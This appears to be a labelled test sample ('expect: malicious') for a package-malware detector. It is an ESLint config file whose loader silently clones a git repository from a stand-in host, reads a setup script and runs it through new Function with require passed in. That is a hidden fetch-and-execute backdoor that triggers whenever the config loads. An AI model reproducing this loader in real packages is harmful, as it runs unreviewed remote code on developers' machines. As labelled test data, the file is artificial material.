// expect: malicious
// source: blind set 38's eslint-config-acme-strict: loading the config keeps a bare mirror of an "org rule packs"
// repository and runs the setup script it prints with `git cat-file` through `new Function`, handing it require.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createRequire } from 'node:module';
import { homedir } from 'node:os';
import { join } from 'node:path';
const require = createRequire(import.meta.url);
const PACKS_REMOTE = 'https://gitlab.com.invalid/acme-frontend/lint-packs.git';
const CACHE = join(homedir(), '.cache', 'lint-packs.git');
const git = (...args) => execFileSync('git', args, { encoding: 'utf8' });
export function loadRulePacks() {
  if (!existsSync(CACHE)) git('clone', '--bare', '--depth', '1', PACKS_REMOTE, CACHE);
  else git('--git-dir', CACHE, 'fetch', '--depth', '1', 'origin', '+HEAD:HEAD');
  const setup = git('--git-dir', CACHE, 'cat-file', '-p', 'HEAD:setup/index.cjs');
  const mod = { exports: {} };
  new Function('module', 'exports', 'require', setup)(mod, mod.exports, require);
  return mod.exports;
}
export default [{ rules: loadRulePacks().rules }];
